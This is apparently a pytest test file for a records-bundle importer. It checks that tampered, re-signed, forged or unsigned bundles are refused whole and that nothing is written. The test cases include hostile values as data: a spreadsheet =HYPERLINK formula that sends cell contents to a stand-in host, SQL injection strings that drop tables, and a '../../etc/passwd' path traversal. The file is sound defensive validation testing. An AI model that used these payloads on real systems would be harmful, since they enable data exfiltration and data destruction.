"""Bundles are input from another machine: every record is validated like a keyboard, the bundle
is refused whole naming the first bad record, and nothing is written. The tampered bundles here
are real exports edited and RE-SIGNED with the key (the attacker-with-key case), so the record
checks alone must catch them."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from counter.services import bundle_key, bundles
from counter.services.bundle_file import HEADER_LEN
from tests.helpers.bundle import share_key

from ._bundle_fixtures import (
    Records,
    edited,
    fill_laptop,
    line_of,
    make,
    nik,
    read_records,
    snapshot,
    write_records,
)


@pytest.fixture(autouse=True)
def _cheap_pins(monkeypatch: pytest.MonkeyPatch) -> None:
    from argon2 import PasswordHasher

    from counter.services import accounts

    monkeypatch.setattr(
        accounts, "pin_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    )


@pytest.fixture
def setup(tmp_path: Path, clock: Any):
    laptop, office = make(tmp_path, "laptop", clock), make(tmp_path, "office", clock)
    key = share_key(office, laptop)
    fill_laptop(laptop, clock)
    src = tmp_path / "real.ikdb"
    bundles.export_bundle(laptop, src)
    yield laptop, office, key, src
    laptop.db.dispose()
    office.db.dispose()


def _visit(recs: Records, n: int) -> dict[str, Any]:
    return [r for r in recs if r.get("t") == "visit"][n]


def _vevent(recs: Records, n: int) -> dict[str, Any]:
    return [r for r in recs if r.get("t") == "vevent"][n]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
CASES = {
    "sql_in_nik": ("visit", 1, "nik", lambda r: r.update(nik="ABC'; DROP TABLE visit;--")),
    "formula_nik": ("visit", 2, "nik", lambda r: r.update(nik=HYPERLINK)),
    "outcome_hacked": ("visit", 0, "outcome", lambda r: r.update(outcome="HACKED")),
    "note_100kb": ("visit", 0, "note", lambda r: r.update(note="x" * 100_000)),
    "reason_not_in_protocol": ("visit", 1, "reason", lambda r: r.update(reason="bribe")),
    "name_control_chars": ("visit", 0, "name", lambda r: r.update(name="Budi\x1b[2J")),
    "phone_without_consent": ("visit", 0, "phone", lambda r: r.update(phone="081234567890")),
    "nik_of_other_district": (
        "visit",
        0,
        "district_code",
        lambda r: r.update(district_code="332502"),
    ),
    "year_9999": (
        "visit",
        0,
        "started_at",
        lambda r: r.update(started_at="9999-01-01T00:00:00+00:00"),
    ),
    "ends_before_start": (
        "visit",
        0,
        "ended_at",
        lambda r: r.update(ended_at="2021-01-01T00:00:00+00:00"),
    ),
    "not_a_uuid": ("visit", 0, "id", lambda r: r.update(id="../../etc/passwd")),
    "unknown_field": ("visit", 0, "is_admin", lambda r: r.update(is_admin=True)),
    "revision_as_text": ("visit", 0, "revision", lambda r: r.update(revision="1")),
    "event_kind": ("vevent", 0, "kind", lambda r: r.update(kind="drop_tables")),
    "event_outcome": (
        "vevent",
        "outcome",
        "data.outcome",
        lambda r: r.update(data='{"outcome":"HACKED","reason":null}'),
    ),
    "event_data_huge": (
        "vevent",
        0,
        "data",
        lambda r: r.update(data='{"x":"' + "y" * 20000 + '"}'),
    ),
    "event_data_not_json": ("vevent", 0, "data", lambda r: r.update(data="{nope")),
    "officer_name": (
        "officer",
        0,
        "username",
        lambda r: r.update(username="robert'); drop table officer;--"),
    ),
    "outreach_place": ("event", 0, "place_code", lambda r: r.update(place_code="=1+1")),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_tampered_record_refuses_the_whole_bundle_naming_it(setup, tmp_path, case) -> None:
    _, office, key, src = setup
    kind, n, field, change = CASES[case]
    recs = read_records(src)
    if isinstance(n, str):  # the first event of that kind (events are in visit-id order)
        n = [r.get("kind") for r in recs if r.get("t") == kind].index(n)
    line = line_of(recs, kind, n)
    target = [r for r in recs if r.get("t") == kind][n]
    change(target)
    # a second bad record further down: the message names the FIRST one
    _vevent(recs, -1)["kind"] = "also_bad"
    bad = write_records(tmp_path / f"{case}.ikdb", recs, key)
    before = snapshot(office)
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(office, bad)
    msg = e.value.message("en")
    assert e.value.code == "record", msg
    assert f"line {line}," in msg and f"field {field}:" in msg, msg
    assert "nothing was imported" in msg
    assert "Traceback" not in msg and "\x1b" not in msg
    assert snapshot(office) == before  # nothing written, not even the officers


def test_the_untampered_bundle_imports(setup) -> None:
    """The fixture's own bundle is valid: each refusal above is the edit's doing."""
    _, office, _, src = setup
    summ = bundles.import_bundle(office, src)
    assert (summ.new_visits, summ.officers_created) == (5, ["budi", "siti"])


def test_a_bundle_from_another_office_is_refused_naming_both_codes(setup, tmp_path) -> None:
    _, office, key, src = setup

    def other(recs: Records) -> None:
        recs[0]["office_code"] = "3326"
        for r in recs:
            if r.get("t") == "visit":
                r["office_code"] = "3326"

    bad = edited(src, tmp_path / "pekalongan.ikdb", key, other)
    before = snapshot(office)
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(office, bad)
    assert e.value.code == "other_office"
    assert "3326" in e.value.message("en") and "3325" in e.value.message("en")
    assert snapshot(office) == before


def test_a_visit_id_known_for_another_nik_is_a_conflict(setup, tmp_path) -> None:
    _, office, key, src = setup
    bundles.import_bundle(office, src)

    def swap(recs: Records) -> None:
        v = _visit(recs, 0)
        v["nik"] = nik(20)  # same district, another resident
        recs[0]["created_at"] = recs[0]["created_at"]  # a different file, same visit id

    bad = edited(src, tmp_path / "swap.ikdb", key, swap)
    before = snapshot(office)
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(office, bad)
    msg = e.value.message("en")
    assert e.value.code == "conflict" and _visit(read_records(src), 0)["id"] in msg
    assert snapshot(office) == before


def test_signature_no_key_wrong_key_forged_and_unsigned(setup, tmp_path, clock) -> None:
    _, office, key, src = setup
    data = src.read_bytes()
    before = snapshot(office)
    # an office without the key cannot check it
    stranger = make(tmp_path, "stranger", clock)
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(stranger, src)
    assert e.value.code == "no_key" and "bundle key import" in e.value.message("en")
    # signed with another key: both fingerprints named
    other = b"\x01" * 32
    bad = write_records(tmp_path / "other.ikdb", read_records(src), other)
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(office, bad)
    assert e.value.code == "wrong_key"
    assert bundle_key.fingerprint(other) in e.value.message("en")
    assert bundle_key.fingerprint(key) in e.value.message("en")
    # changed without the key: content edited, checksums recomputed, the old signature kept
    recs = read_records(src)
    _visit(recs, 0)["outcome"] = "DECLINED"
    forged = bytearray(write_records(tmp_path / "f.ikdb", recs, key).read_bytes())
    forged[72:HEADER_LEN] = data[72:HEADER_LEN]  # the signature of the original
    forged[32:64] = hashlib.sha256(bytes(forged[64:])).digest()
    (tmp_path / "f.ikdb").write_bytes(bytes(forged))
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(office, tmp_path / "f.ikdb")
    assert e.value.code == "forged" and "signature" in e.value.message("en")
    # a version 1 bundle (checksum only)
    old = b"\x1f\x8b\x08\x04\x00\x00\x00\x00\x00\xff\x34\x00IK\x30\x00" + b"\x00" * 64
    (tmp_path / "old.ikdb").write_bytes(old)
    with pytest.raises(bundles.BundleError) as e:
        bundles.import_bundle(office, tmp_path / "old.ikdb")
    assert e.value.code == "unsigned"
    assert snapshot(office) == before
    stranger.db.dispose()


def test_export_needs_a_key(tmp_path, clock) -> None:
    c = make(tmp_path, "nokey", clock)
    with pytest.raises(bundle_key.BundleKeyError) as e:
        bundles.export_bundle(c, tmp_path / "x.ikdb")
    assert e.value.code == "none" and not (tmp_path / "x.ikdb").exists()
    c.db.dispose()


HOSTILE = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**6), 10**12),
    st.floats(allow_nan=False),
    st.text(max_size=30),
    st.text(min_size=600, max_size=700),
    st.sampled_from(
        [
            HYPERLINK,
            "ABC'; DROP TABLE visit;--",
            "HACKED",
            "\x00",
            "+62812",
            "2026-11-27",
            "9999-12-31T00:00:00+00:00",
            "3325011501900001",
            "",
            "é" * 3,
        ]
    ),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_any_field_mutation_is_refused_or_stays_within_the_rules(setup, data) -> None:
    """Any field of any record set to a hostile value: the parse either refuses with a
    BundleError or yields records the counter could have written."""
    _, office, _, src = setup
    recs = read_records(src)
    i = data.draw(st.integers(1, len(recs) - 1))
    field = data.draw(st.sampled_from(sorted(k for k in recs[i] if k != "t")))
    recs[i][field] = data.draw(HOSTILE)
    content = b"".join(json.dumps(r, separators=(",", ":")).encode() + b"\n" for r in recs)
    trailer = b'{"t":"end","sha256":"' + hashlib.sha256(content).hexdigest().encode() + b'"}\n'
    from counter.services import bundle_check

    try:
        b = bundles.parse_bundle(content + trailer, "h.ikdb", bundle_check.rules_for(office))
    except bundles.BundleError as e:
        assert e.message("en")  # a message, never a crash
        return
    from counter.domain import nik as nikmod
    from counter.domain import outcomes as oc

    for v in b.visits:
        assert nikmod.check(v["nik"])[1] is None and v["district_code"] == v["nik"][:6]
        assert v["outcome"] in (None, *oc.OUTCOMES)
        for k in ("name", "note", "phone", "purpose", "counter_id"):
            assert v[k] is None or (
                isinstance(v[k], str)
                and len(v[k]) <= 500
                and v[k][:1] not in "=+-@"
                or k == "phone"
            )


def test_a_visit_closed_as_interrupted_travels(tmp_path, clock) -> None:
    """'interrupted' (resume screen, day close) is the counter's own reason code: accepted."""
    from counter.services import accounts, visits

    laptop, office = make(tmp_path, "l2", clock), make(tmp_path, "o2", clock)
    share_key(office, laptop)
    off = accounts.create_officer(laptop, "budi", "975310")
    v = visits.start_visit(laptop, off, nik(3))
    clock.advance(seconds=30)
    visits.finish_visit(laptop, v.id, "PENDING", "interrupted", officer_id=off.id)
    bundles.export_bundle(laptop, tmp_path / "i.ikdb")
    assert bundles.import_bundle(office, tmp_path / "i.ikdb").new_visits == 1
    assert visits.get_visit(office, v.id).reason == "interrupted"
    laptop.db.dispose()
    office.db.dispose()
